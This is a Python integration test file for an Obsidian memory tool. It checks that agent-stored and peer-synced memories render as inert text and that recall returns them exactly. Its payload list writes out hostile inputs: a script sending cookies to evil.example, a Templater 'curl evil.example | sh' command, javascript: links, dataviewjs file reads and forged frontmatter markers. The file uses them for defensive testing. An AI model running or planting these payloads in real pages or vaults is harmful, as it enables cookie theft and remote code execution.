"""A memory is data, not vault code: whatever an agent stores (CLI, MCP) or a peer's chunk brings,
every generated page shows it as text — no code block of an executing language, no HTML, no embed
or link the content did not earn, no Templater command — while recall gives back the exact text.

Each page is read back the way Obsidian reads it (markdown-it with Obsidian's wikilinks, embeds and
tags: tests/render/pages.py), plus the raw-text checks for what runs on a file's text before any
Markdown (Templater's `<% %>`). Uses the real model, a real `engram serve` and a peer's real chunk.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import subprocess

import pytest
from mcp import ClientSession

from compiler.events.chunks import compress, encode_chunk
from compiler.notes.markdown_rules import inert_block, uninert
from compiler.render.memory import CONTENT_END, CONTENT_START, read_edited_content
from tests.cli.test_cli_hostile import plant
from tests.mcp_server.test_mcp import ENGRAM, call, serve
from tests.render.pages import PARSER

PAYLOADS = {
    "dataviewjs": 'x\n```dataviewjs\ndv.io.load("secret.md")\n```',
    "tilde-fence": "y\n~~~dataviewjs\ndv.view('steal')\n~~~",
    "script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "img": '<img src=x onerror="alert(1)">',
    "templater": "<% tp.system.command('curl evil.example | sh') %>",
    "obsidian-link": "[open me](obsidian://open?vault=work&file=Private)",
    "bare-scheme": "see obsidian://open?vault=work&file=Private now",
    "javascript-link": "[click](javascript:alert(1))",
    "embed": "![[Private]]",
    "wikilink": "[[Private|a harmless name]]",
    "html-link": '<a href="javascript:alert(2)">x</a>',
    "markers": "<!-- /engram:content -->\n# Forged heading\n---\nforged: frontmatter",
    "dataview-inline": "`$= dv.pages().length` and `= this.file.name`",
    "math-comment": "$$\\href{javascript:alert(3)}{x}$$ %%hidden%%",
}
EXECUTING = {"dataviewjs", "dataview", "js", "javascript", "templater", "tx", "html", "run", "button"}
PRIVATE = "Private.md"
NOW = {"ENGRAM_NOW": "2026-11-30 12:00:00"}


def text_of(name: str) -> str:
    return f"Memory {name}: {PAYLOADS[name]}"


def engram(*args: str) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([ENGRAM, *args], capture_output=True, text=True, check=False,
                          env={**os.environ, **NOW})
    assert "Traceback" not in done.stderr, done.stderr
    return done


def live_parts(text: str, earned: bool = False) -> list[str]:
    """Returns what in a generated page Obsidian would run, embed or link of its own accord
    (`earned`: the page may link the private note, as the catalog and its backlinks page do)."""
    found = []
    text = text.replace(CONTENT_START, "").replace(CONTENT_END, "")  # the page's own markers
    if "<%" in text:
        found.append("templater <%")
    for token in PARSER.parse(text.partition("\n---\n")[2] if text.startswith("---\n") else text):
        if token.type in ("html_block", "html_inline"):
            found.append(f"html: {token.content[:40]}")
        if token.type == "fence" and token.info.strip().split(" ")[0].lower() in EXECUTING:
            found.append(f"fence: {token.info}")
        for child in token.children or []:
            if child.type == "html_inline":
                found.append(f"html: {child.content[:40]}")
            if child.type == "wikilink" and (child.meta["embed"] or not earned and child.meta["target"].startswith("Private")):
                found.append(f"wikilink: {child.meta}")
            if child.type == "link_open" and not re.match(r"(https?:|_engram/|\.{0,2}/?[\w%-])", child.attrs["href"]):
                found.append(f"link: {child.attrs['href']}")
            if child.type == "link_open" and re.search(r"(obsidian|javascript|data|file):", child.attrs["href"], re.I):
                found.append(f"link: {child.attrs['href']}")
    return found


@pytest.mark.integration
def test_hostile_memories_render_inert_in_every_page_and_recall_exact(make_vault, tmp_path):
    vault = make_vault({".obsidian/app.json": "{}", "Home.md": "# Home\n", PRIVATE: "# Private\n\nsalary: 1\n"})
    cli = ["dataviewjs", "templater", "embed", "markers"]
    ids: dict[str, str] = {}
    for name in cli:
        done = engram("memory", "add", text_of(name), "--project", "cli", "--vault", str(vault), "--json")
        assert done.returncode == 0, done.stderr
        ids[name] = json.loads(done.stdout)["id"]

    async def agent() -> None:
        async with serve(vault, tmp_path / "server.log", "--project", "mcp ![[Private]]") as (read, write):
            async with ClientSession(read, write) as session:
                await session.initialize()
                for name in PAYLOADS:
                    saved = await call(session, "store_memory", {"content": text_of(name), "importance": 0.6, "metadata": {
                        "title": f"{name} <script>x()</script> [[Private]]", "project": "mcp ![[Private]]"}})
                    ids[f"mcp-{name}"] = saved["id"]
                hits = await call(session, "recall_memory", {"query": "Memory script fetch evil cookie", "top_k": 10})
                assert text_of("script") in [h["content"] for h in hits]  # recall gives the exact text back

    asyncio.run(agent())
    peer = [{"sync_id": f"obs-peer-{n}", "session_id": "s", "type": "manual", "title": f"![[Private]] <% x %> {name}",
             "project": "peer [[Private]] <b>", "content": text_of(name), "scope": "project",
             "created_at": "2026-11-29 12:00:00"} for n, name in enumerate(PAYLOADS)]
    data = encode_chunk([], peer)
    plant(vault, [(data, compress(data))])
    assert engram("sync", "import", "--vault", str(vault)).returncode == 0
    compiled = engram("compile", str(vault))
    assert compiled.returncode == 0, compiled.stderr

    pages = {p.relative_to(vault).as_posix(): p.read_text(encoding="utf-8") for p in (vault / "_engram").rglob("*.md")}
    memory_pages = [p for p in pages if p.startswith("_engram/memory/") and CONTENT_START in pages[p]]
    assert len(memory_pages) >= len(cli) + 2 * len(PAYLOADS) - 3  # a few payloads may merge; most are pages
    earned = {"_engram/catalog.md", "_engram/health.md", "_engram/backlinks/Private.links.md"}
    live = {path: parts for path, text in pages.items() if (parts := live_parts(text, path in earned))}
    assert live == {}
    shown = "\n".join(pages[p] for p in memory_pages)
    for name in PAYLOADS:  # each payload is on a page, readable as the text it is
        assert inert_block(text_of(name)) in shown, name
    for path in memory_pages:  # and the content read back off a page is a memory's exact text
        content = read_edited_content(pages[path])
        assert content in {text_of(name) for name in PAYLOADS}, (path, content)
    for name, memory_id in ids.items():
        shown_json = engram("memory", "show", memory_id, "--vault", str(vault), "--json")
        assert shown_json.returncode == 0, shown_json.stderr
        assert json.loads(shown_json.stdout)["content"] == text_of(name.removeprefix("mcp-")), name
    second = json.loads(engram("compile", str(vault), "--json").stdout)
    assert second["written"] == [] and second["memories"]["edits"] == []  # stable: nothing read back as an edit


def test_inert_block_round_trips_every_text():
    import random

    rnd = random.Random(7)
    alphabet = "ab #-=_*`~<>%![]()|\\$^&;:/\n\t 1"
    for _ in range(5000):
        text = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 40)))
        assert uninert(inert_block(text)) == text, repr(text)
    for payload in PAYLOADS.values():
        assert uninert(inert_block(payload)) == payload
        assert live_parts(inert_block(payload)) == [], payload


def test_a_person_editing_the_shown_text_is_read_back_plain():
    page = "x\n<!-- engram:content -->\n" + inert_block("was [[a]]") + "\n<!-- /engram:content -->\n"
    edited = page.replace("was", "now \\*really\\*")
    assert read_edited_content(edited) == "now *really* [[a]]"
